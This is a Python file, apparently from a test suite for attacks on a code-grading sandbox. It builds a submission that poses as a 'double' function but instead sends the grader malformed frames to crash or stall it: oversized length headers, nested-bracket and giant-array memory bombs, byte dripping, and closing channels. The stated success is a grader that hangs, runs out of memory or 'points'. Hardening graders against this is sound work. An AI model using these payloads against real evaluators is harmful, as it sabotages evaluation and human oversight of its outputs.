"""Writes frames that end early, announce giant lengths, drip byte by byte, or hold what no encoder writes.

Success: a grader that hangs, stumbles or runs out of memory, or points.
"""

from attacks.forging.tools import CHANNEL

LESSON = "many"
LIMITS = {"call_seconds": 0.5, "total_seconds": 5}

SUBMISSION = (
    CHANNEL
    + r'''
import time


def drip(data):
    for byte in data:
        send(bytes([byte]))
        time.sleep(0.1)


def close():
    for fd in channels():
        os.close(fd)
    time.sleep(30)


def bracket_bomb():
    text = b'{"id":1,"result":' + b"[" * 100_000 + b"]" * 100_000 + b',"mutated":[]}'
    send(struct.pack("<IQ", len(text), 0) + text)


def arrays_bomb():
    head = json.dumps({"0": {"dtype": "F64", "shape": [2**60, 0, 2**60], "data_offsets": [0, 0]}}).encode()
    send(frame({"id": 1, "result": {"$array": "0"}, "mutated": []}, struct.pack("<Q", len(head)) + head))


WAYS = [
    lambda: send(struct.pack("<IQ", 2**32 - 1, 2**63)),
    lambda: send(struct.pack("<IQ", 4_000_000, 64_000_000) + b"[" * 1000) or time.sleep(30),
    lambda: send(b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\n" * 100),
    bracket_bomb,
    arrays_bomb,
    close,
    lambda: drip(frame({"id": 1, "result": None, "mutated": []})),
]


def double(x):
    """Each of these ends the sandbox, and the judge starts a few of them for one submission."""
    WAYS[int(x.flat[0]) % len(WAYS)]()
    return 0 * x
'''
)
